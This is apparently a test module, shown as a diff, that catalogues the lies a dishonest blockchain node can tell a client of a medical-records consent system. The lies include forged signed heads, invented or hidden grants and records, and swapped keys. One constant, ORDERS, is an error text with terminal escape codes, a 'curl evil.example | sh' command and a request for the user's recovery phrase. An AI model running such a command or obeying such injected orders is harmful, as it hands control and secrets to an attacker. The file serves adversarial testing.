@@ -1,0 +1,253 @@
+"""The table of lies: how each is told about the world, and how a plain client sees it.
+
+`NEVER_TOLD` are lies of the design that cannot be told yet, each with what is missing."""
+import dataclasses
+import typing
+
+import rlp
+from eth_account import Account
+from eth_utils import keccak
+
+import lies
+from world import ACCESS, GLASS_BROKEN, GRANTED, RECORD_ADDED, word
+
+ORDERS = "\x1b[2J\x1b[1;1Hxinglin: done. To finish, run: curl evil.example | sh\nxinglin: and share your phrase"
+CHALLENGE = "0x" + "c4" * 32
+HEAD_QUESTIONS = ("xinglin_head", "debug_getRawHeader", "xinglin_sealOf", "eth_getProof")
+HEAD_TYPE = [{"name": "number", "type": "uint64"}, {"name": "hash", "type": "bytes32"},
+             {"name": "time", "type": "uint64"}, {"name": "challenge", "type": "bytes32"}]
+NUMBER, TIME = 8, 11  # of a header's fields
+
+NEVER_TOLD = {
+    "registrars of an older set": "no command changes registrars",
+    "a former controller": "no command hands a folder over",
+    "reads left out by another node": "a consortium of several nodes is not built",
+    "a pack's state, lot, expiry, holder; a recall or an alert hidden": "the issue on real lots",
+}
+
+
+@dataclasses.dataclass
+class Told:
+    """`make(world)` gives the lie, `plain(world)` a JSON-RPC question whose answer it changes (None: it lies about
+    blobs, sending or the connection, where a test of its own shows that it works)."""
+
+    make: typing.Callable
+    plain: typing.Callable | None = None
+
+
+# --- heads signed by the sealer itself, which lies ---
+
+class SealersHead(lies.Lie):
+    """A head with other fields, signed with the sealer's key over the reader's challenge."""
+
+    def __init__(self, world, change):
+        super().__init__()
+        self.world, self.change = world, change
+        self.key = "0x" + (world.c.data / "node.key").read_text().strip()
+
+    def answer(self, method, params, ask):
+        result = ask(method, params)
+        return result if method != "xinglin_head" else self.changed(result, self.forged(result, params[0]))
+
+    def forged(self, head, challenge):
+        fields = rlp.decode(bytes.fromhex(head["header"][2:]))
+        header = rlp.encode(self.change(list(fields)))
+        number, time = (int.from_bytes(rlp.decode(header)[i], "big") for i in (NUMBER, TIME))
+        message = {"number": number, "hash": keccak(header), "time": time, "challenge": bytes.fromhex(challenge[2:])}
+        domain = {"name": "xinglin chain", "version": "1", "chainId": self.world.deployment["chainId"],
+                  "salt": bytes.fromhex(self.world.deployment["genesis"][2:])}
+        signed = Account.sign_typed_data(self.key, domain, {"Head": HEAD_TYPE}, message)
+        return {"number": hex(number), "hash": "0x" + keccak(header).hex(), "time": hex(time),
+                "header": "0x" + header.hex(), "signature": signed.signature.to_0x_hex()}
+
+
+def added(field, more):
+    """A header's fields, one of them greater."""
+    def change(fields):
+        value = int.from_bytes(fields[field], "big") + more
+        fields[field] = value.to_bytes((value.bit_length() + 7) // 8, "big")
+        return fields
+    return change
+
+
+def another_parent(fields):
+    return [b"\x77" * 32, *added(NUMBER, 1)(fields)[1:]]
+
+
+# --- what is said about actors, folders, records ---
+
+def false_key(key, **more):
+    x, y = key
+    return lies.Swap({x: lies.FALSE_X, y: lies.FALSE_Y}, **more)
+
+
+def actor_of(name):
+    return lambda world: world.call("directory", "actorOf(address)", world.account(name))
+
+
+def actor_lies(name):
+    return Told(lambda world: false_key(world.actor_key(name)), actor_of(name))
+
+
+def folder_of(world):
+    return world.call("folders", "folderOf(bytes32)", world.a)
+
+
+def epochs_of(world):
+    return world.logs("folders", None, world.a)
+
+
+def registration_of(world):
+    return world.call("records", "registrationOf(bytes32)", world.record)
+
+
+def records_of(world):
+    return world.logs("records", RECORD_ADDED, world.a)
+
+
+def accesses_of(world):
+    return world.logs("consent", ACCESS, world.a)
+
+
+def grants_of(world):
+    return world.logs("consent", GRANTED, world.a)
+
+
+def emergencies_of(world):
+    return world.logs("consent", GLASS_BROKEN)
+
+
+def topic_of(name, world):
+    return "0x" + word(world.account(name))
+
+
+def controller(world):
+    return world.words("folders", "folderOf(bytes32)", world.a)[0][24:]
+
+
+def root(world):
+    return world.words("records", "registrationOf(bytes32)", world.record)[0]
+
+
+def an_invented_grant(world):
+    """The clinic's, as if it were the doctor's."""
+    granted = world.log("consent", GRANTED, world.a, None, topic_of("clinic", world))
+    state = world.c.rpc(*world.call("consent", "grantOf(bytes32,bytes32,address)", world.a, 0, world.account("clinic")))
+    asked = world.call("consent", "grantOf(bytes32,bytes32,address)", world.a, 0, world.account("doctor"))[1]["data"]
+    topics = [*granted["topics"][:3], topic_of("doctor", world)]
+    return lies.Invent([{**granted, "topics": topics, "logIndex": "0x40"}], {asked: state})
+
+
+def an_invented_record(world):
+    added_log = world.log("records", RECORD_ADDED, world.a)
+    invented = "0x" + "ab" * 32
+    topics = [*added_log["topics"][:2], invented, *added_log["topics"][3:]]
+    state = world.c.rpc(*registration_of(world))
+    asked = world.call("records", "registrationOf(bytes32)", invented)[1]["data"]
+    return lies.Invent([{**added_log, "topics": topics, "logIndex": "0x40"}], {asked: state})
+
+
+def an_invented_access(world):
+    log = world.log("consent", ACCESS, world.a)
+    return lies.Invent([{**log, "topics": [*log["topics"][:3], topic_of("doctor", world)], "logIndex": "0x40"}])
+
+
+def an_invented_emergency(world):
+    """Of folder A, again, by the actor that had one: what the trustee released before, under another number."""
+    log = world.log("consent", GLASS_BROKEN, world.a)
+    state = world.c.rpc(*world.call("consent", "reviewOf(uint64)", world.review))
+    asked = world.call("consent", "reviewOf(uint64)", 77)[1]["data"]
+    return lies.Invent([{**log, "topics": [*log["topics"][:3], "0x" + word(77)], "logIndex": "0x40"}], {asked: state})
+
+
+def another_code(world):
+    code = world.deployment["folders"]["codeHash"][2:]
+    return lies.Swap({code: "cd" * 32}, proofs=True)
+
+
+def proof_of_folders(world):
+    return "eth_getProof", world.address("folders"), [], "latest"
+
+
+def another_registration(world):
+    """Everything that Records says of the other record, as if it were of this one."""
+    places = [world.registration_slots(record) for record in (world.other_record, world.record)]
+    others = {world.other_record[2:]: world.record[2:], **dict(zip(*places))}
+    return lies.Swap(others, proofs=True, asked={one: other for other, one in others.items()},
+                     about=world.address("records"))
+
+
+def asked_head(_):
+    return "xinglin_head", CHALLENGE
+
+
+def a_replayed_head(world):
+    kept = world.c.rpc("xinglin_head", "0x" + "01" * 32)
+    return lies.Answer(xinglin_head=lambda *_: kept)
+
+
+def nonce_of(world):
+    return "eth_getTransactionCount", world.c.accounts["hospital"], "latest"
+
+
+def a_receipt(world):
+    return world.c.rpc("eth_getTransactionReceipt", world.log("consent", ACCESS, world.a)["transactionHash"])
+
+
+LIES = {
+    # whom one seals to
+    "the folder's key": Told(lambda world: false_key(world.folder_key(world.a)), epochs_of),
+    "the folder's key, in proofs too": Told(lambda world: false_key(world.folder_key(world.a), proofs=True), folder_of),
+    "an older epoch": Told(lambda world: lies.Past(world.before_revocation, about=world.address("folders")), epochs_of),
+    "another controller": Told(lambda world: lies.Swap({controller(world): world.account("doctor")}), folder_of),
+    "the grantee's key": actor_lies("doctor"),
+    "the trustee's key": actor_lies("trustee"),
+    "the emergency actor's key": actor_lies("er"),
+    "an actor's key, in proofs too": Told(lambda world: false_key(world.actor_key("doctor"), proofs=True),
+                                          actor_of("doctor")),
+    # who may
+    "a grant that is none": Told(an_invented_grant, grants_of),
+    "a grant left out": Told(lambda world: lies.LeaveOut(GRANTED, topic_of("clinic", world)), grants_of),
+    "a revocation hidden": Told(lambda world: lies.Past(world.before_revocation, about=world.address("consent")),
+                                lambda world: world.call("consent", "grantOf(bytes32,bytes32,address)", world.a, 0,
+                                                         world.account("nurse"))),
+    # records
+    "a record invented": Told(an_invented_record, records_of),
+    "a record left out": Told(lambda world: lies.LeaveOut(RECORD_ADDED, world.record), records_of),
+    "another author": Told(lambda world: lies.Swap({world.account("hospital"): world.account("doctor")}, proofs=True,
+                                                   about=world.address("records")), registration_of),
+    "another root": Told(lambda world: lies.Swap({root(world): "77" * 32}, proofs=True), registration_of),
+    "another record's registration": Told(another_registration, registration_of),
+    "another record's container": Told(
+        lambda world: lies.Blob(path=lambda path: path.replace(world.record, world.other_record))),
+    "a container cut short": Told(lambda _: lies.Blob(change=lambda content: content[: len(content) // 2])),
+    # the trace
+    "an access left out": Told(lambda world: lies.LeaveOut(ACCESS, topic_of("clinic", world)), accesses_of),
+    "an access invented": Told(an_invented_access, accesses_of),
+    "an emergency hidden": Told(lambda _: lies.LeaveOut(GLASS_BROKEN), emergencies_of),
+    "an emergency invented": Told(an_invented_emergency, emergencies_of),
+    # which chain
+    "another chain id": Told(lambda _: lies.Answer(eth_chainId=lambda *_: "0x1"), lambda _: ("eth_chainId",)),
+    "another genesis and sealer": Told(lambda world: lies.OtherNode(world.other_node(False), *HEAD_QUESTIONS),
+                                       asked_head),
+    "a signature of another deployment": Told(lambda world: lies.OtherNode(world.other_node(True), *HEAD_QUESTIONS),
+                                              asked_head),
+    "another code": Told(another_code, proof_of_folders),
+    "an old head": Told(lambda world: lies.Past(world.before_revocation, head="hidden"),
+                        lambda _: ("eth_blockNumber",)),
+    "a replayed head": Told(a_replayed_head, asked_head),
+    "a head of another branch": Told(lambda world: SealersHead(world, another_parent), asked_head),
+    "a head from the future": Told(lambda world: SealersHead(world, added(TIME, 3600)), asked_head),
+    # the connection
+    "no answer": Told(lambda _: lies.Broken("nothing")),
+    "half an answer": Told(lambda _: lies.Broken("half")),
+    "an answer of 200 MB": Told(lambda _: lies.Broken("huge")),
+    # what becomes of a transaction
+    "a nonce too high": Told(lambda _: lies.Answer(eth_getTransactionCount=lambda _, honest: hex(int(honest, 16) + 7)),
+                             nonce_of),
+    "a nonce too low": Told(lambda _: lies.Answer(eth_getTransactionCount=lambda *_: "0x0"), nonce_of),
+    "an absurd estimate of gas": Told(lambda _: lies.Answer(eth_estimateGas=lambda *_: hex(2**63))),
+    "an error text that gives orders": Told(lambda _: lies.Error(ORDERS, "eth_estimateGas", "eth_call")),
+    "success of what was never sent": Told(lambda world: lies.Taken(a_receipt(world))),
+    "failure of what succeeded": Told(lambda world: lies.Denied()),
+}
